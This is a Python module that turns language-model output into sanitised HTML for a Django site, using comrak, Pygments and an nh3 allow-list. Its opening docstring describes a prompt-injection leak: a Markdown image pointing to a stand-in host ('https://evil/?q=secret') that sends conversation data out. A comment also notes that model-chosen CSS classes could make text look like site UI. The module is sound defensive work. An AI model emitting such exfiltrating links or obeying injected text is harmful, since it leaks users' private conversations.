"""Model output → safe HTML: GitHub-flavoured Markdown, Pygments highlighting, nh3 sanitising.

The text comes from an LLM, which anyone can steer with a prompt (or with data a tool returns),
so it is treated as hostile. Three layers:

1. comrak renders GFM with raw HTML *escaped* (shown as text, never interpreted) and blanks
   `javascript:`-style link targets.
2. Fenced code blocks are highlighted with Pygments (`<div class="highlight">`).
3. nh3 (ammonia) re-parses the result and keeps only an explicit allow-list of tags, attributes,
   classes and URL schemes, so a bug in either of the above cannot smuggle script in.

Images are rendered as links instead of `<img>`: an image loads without a click, so a prompt
injection could otherwise leak conversation data through its URL (`![](https://evil/?q=secret)`).
"""

from __future__ import annotations

import hashlib
import html
import re
from functools import lru_cache
from typing import Final

import comrak
import nh3
from django.utils.safestring import SafeString, mark_safe
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexer import Lexer
from pygments.lexers import get_lexer_by_name
from pygments.token import STANDARD_TYPES
from pygments.util import ClassNotFound

__all__ = ["pygments_css", "render_markdown"]

_MAX_HIGHLIGHT_CHARS: Final = 100_000
"""Longer code blocks stay plain: Pygments is the slow part and may be quadratic on odd input."""

_LINK_REL: Final = "noopener noreferrer nofollow"


def _comrak_options() -> tuple[comrak.ExtensionOptions, comrak.ParseOptions, comrak.RenderOptions]:
    ext = comrak.ExtensionOptions()
    ext.table = True
    ext.strikethrough = True
    ext.autolink = True
    ext.tasklist = True
    ext.footnotes = True
    parse = comrak.ParseOptions()
    render = comrak.RenderOptions()
    render.escape = True  # raw HTML from the model is shown as text
    render.tasklist_classes = True
    return ext, parse, render


_OPTIONS: Final = _comrak_options()

_PYGMENTS_CLASSES: Final = frozenset(c for c in STANDARD_TYPES.values() if c)

_TAGS: Final = frozenset({
    "a", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
    "input", "li", "ol", "p", "pre", "section", "span", "strong", "sup", "table", "tbody", "td",
    "th", "thead", "tr", "ul",
})  # fmt: skip

_CLEANER: Final = nh3.Cleaner(
    tags=set(_TAGS),
    clean_content_tags={"script", "style"},
    attributes={
        "a": {
            "href",
            "title",
            "id",
            "aria-label",
            "data-footnote-ref",
            "data-footnote-backref",
            "data-footnote-backref-idx",
        },
        "div": {"data-lang"},
        "input": {"checked", "disabled"},
        "li": {"id"},
        "ol": {"start"},
        "section": {"data-footnotes"},
        "td": {"align"},
        "th": {"align"},
    },
    tag_attribute_values={"a": {"target": {"_blank"}}, "input": {"type": {"checkbox"}}},
    # Classes from comrak and Pygments only: a model-chosen class could pull in the page's own
    # CSS (e.g. Tailwind `fixed inset-0 z-50`) and dress text up as the site's UI.
    allowed_classes={
        "a": {"footnote-backref"},
        "div": {"highlight"},
        "input": {"task-list-item-checkbox"},
        "li": {"task-list-item"},
        "section": {"footnotes"},
        "span": set(_PYGMENTS_CLASSES),
        "sup": {"footnote-ref"},
        "ul": {"contains-task-list"},
    },
    link_rel=_LINK_REL,
    url_schemes={"http", "https", "mailto"},
    strip_comments=True,
)

_CODE_BLOCK: Final = re.compile(
    r'<pre><code(?: class="language-([^"]*)")?>(.*?)</code></pre>', re.DOTALL
)
_IMAGE: Final = re.compile(r'<img src="([^"]*)" alt="([^"]*)"(?: title="([^"]*)")? />')
_EXTERNAL_LINK: Final = re.compile(r'<a href="(?!#)')
# comrak blanks unsafe targets (`javascript:` …) to href="": a link to the page itself is useless.
_EMPTY_LINK: Final = re.compile(r'<a href=""(?: title="[^"]*")?>(.*?)</a>', re.DOTALL)
_FOOTNOTE_ID: Final = re.compile(r'(id="|href="#)(fn(?:ref)?-)')
_LANGUAGE: Final = re.compile(r"[\w+#.-]{1,40}")
_FORMATTER: Final = HtmlFormatter(nowrap=True)


@lru_cache(maxsize=128)
def _lexer(language: str) -> Lexer | None:
    try:
        return get_lexer_by_name(language, stripnl=False, ensurenl=False)
    except ClassNotFound:
        return None


def _highlight_block(match: re.Match[str]) -> str:
    language, escaped = match.group(1), match.group(2)
    lexer = _lexer(language.lower()) if language and _LANGUAGE.fullmatch(language) else None
    if lexer is None or len(escaped) > _MAX_HIGHLIGHT_CHARS:
        body = escaped
    else:
        body = highlight(html.unescape(escaped), lexer, _FORMATTER)
    lang_attr = f' data-lang="{language}"' if language and _LANGUAGE.fullmatch(language) else ""
    return f'<div class="highlight"{lang_attr}><pre><code>{body}</code></pre></div>'


def _image_as_link(match: re.Match[str]) -> str:
    src, alt, title = match.group(1), match.group(2), match.group(3)
    title_attr = f' title="{title}"' if title else ""
    return f'<a href="{src}"{title_attr}>{alt or src}</a>'


def render_markdown(text: str) -> SafeString:
    """Render Markdown from a model or a user as sanitised HTML.

    GitHub-flavoured: tables, strikethrough, autolinks, task lists, footnotes, fenced code
    highlighted by Pygments (`<div class="highlight" data-lang="…">`; style it with
    `pygments_css()`). Raw HTML in the text is shown as text. Links open in a new tab with
    `rel="noopener noreferrer nofollow"`; images become links. Footnote ids are prefixed with a
    hash of the text, so several messages on one page do not share ids. The last 256 results
    are cached.

    Args:
        text: The Markdown source.

    Returns:
        HTML that is safe to insert into a page.
    """
    if not text:
        return mark_safe("")
    return mark_safe(_render(text))  # sanitised by nh3 in _render


# Pages re-render the whole history on every load; the same texts come back again and again.
@lru_cache(maxsize=256)
def _render(text: str) -> str:
    rendered = comrak.render_markdown(text, *_OPTIONS)
    if "<pre><code" in rendered:
        rendered = _CODE_BLOCK.sub(_highlight_block, rendered)
    if "<img " in rendered:
        rendered = _IMAGE.sub(_image_as_link, rendered)
    if "fn-" in rendered:
        prefix = hashlib.blake2b(text.encode(), digest_size=4).hexdigest()
        rendered = _FOOTNOTE_ID.sub(rf"\g<1>\g<2>{prefix}-", rendered)
    if '<a href=""' in rendered:
        rendered = _EMPTY_LINK.sub(r"\g<1>", rendered)
    rendered = _EXTERNAL_LINK.sub('<a target="_blank" href="', rendered)
    return str(_CLEANER.clean(rendered))


def pygments_css(
    style: str = "default",
    dark_style: str | None = None,
    *,
    dark_selector: str | None = None,
) -> str:
    """CSS for the highlighted code blocks that `render_markdown` produces.

    Args:
        style: A Pygments style name for the light theme (`pygments.styles.get_all_styles()`).
        dark_style: Optional style for dark mode, e.g. `"monokai"`.
        dark_selector: Where the dark rules apply: an ancestor selector such as
            `'[data-theme="dark"]'`; by default `@media (prefers-color-scheme: dark)`.

    Returns:
        CSS text, every rule scoped under `.highlight`.
    """
    css = _scoped_css(style, ".highlight")
    if dark_style is None:
        return css
    if dark_selector is not None:
        return f"{css}\n{_scoped_css(dark_style, f'{dark_selector} .highlight')}"
    dark = _scoped_css(dark_style, ".highlight").replace("\n", "\n  ")
    return f"{css}\n@media (prefers-color-scheme: dark) {{\n  {dark}\n}}\n"


def _scoped_css(style: str, selector: str) -> str:
    defs: str = HtmlFormatter(style=style).get_style_defs(selector)  # type: ignore[no-untyped-call]
    # Pygments also emits unscoped rules (`pre { … }`, line numbers) that would restyle the page.
    return "\n".join(line for line in defs.splitlines() if line.startswith(selector)) + "\n"
